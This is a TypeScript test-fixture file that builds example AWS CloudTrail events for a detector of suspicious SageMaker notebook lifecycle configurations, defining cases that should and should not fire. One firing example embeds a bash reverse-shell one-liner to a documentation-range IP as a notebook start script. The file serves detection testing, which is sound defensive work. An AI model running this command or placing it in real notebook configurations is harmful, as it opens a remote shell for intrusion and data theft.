import { ACCOUNT, cloudTrailEvent, failed, identities } from '../examples/events.js';
import type { DetectorExamples } from '../types.js';

const base64 = (script: string) => Buffer.from(script, 'utf8').toString('base64');

/** CreateNotebookInstanceLifecycleConfig as SageMaker logs it: scripts base64-encoded. */
const createConfig = (script: string) =>
  cloudTrailEvent({
    eventSource: 'sagemaker.amazonaws.com',
    eventName: 'CreateNotebookInstanceLifecycleConfig',
    userIdentity: identities.assumedRole('DataScientist', 'mallory'),
    requestParameters: {
      notebookInstanceLifecycleConfigName: 'install-deps',
      onStart: [{ content: base64(script) }],
    },
    responseElements: {
      notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/install-deps`,
    },
  });

const attach = cloudTrailEvent({
  eventSource: 'sagemaker.amazonaws.com',
  eventName: 'UpdateNotebookInstance',
  userIdentity: identities.assumedRole('DataScientist', 'mallory'),
  requestParameters: {
    notebookInstanceName: 'finance-models',
    lifecycleConfigName: 'install-deps',
  },
  responseElements: null,
});

export const examples: DetectorExamples = {
  fire: [
    {
      name: 'a start script that opens a reverse shell (high)',
      events: [createConfig('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n')],
    },
    {
      name: 'a package-install script (medium)',
      events: [createConfig('#!/bin/bash\nsudo -u ec2-user -i pip install pandas\n')],
    },
    { name: 'a configuration attached to an existing notebook', events: [attach] },
  ],
  noFire: [
    {
      name: 'a notebook resized without a configuration',
      events: [
        {
          ...attach,
          requestParameters: {
            notebookInstanceName: 'finance-models',
            instanceType: 'ml.t3.large',
          },
        },
      ],
    },
    {
      name: 'refused',
      events: [failed(createConfig('#!/bin/bash\necho hi\n'), 'AccessDeniedException')],
    },
  ],
};
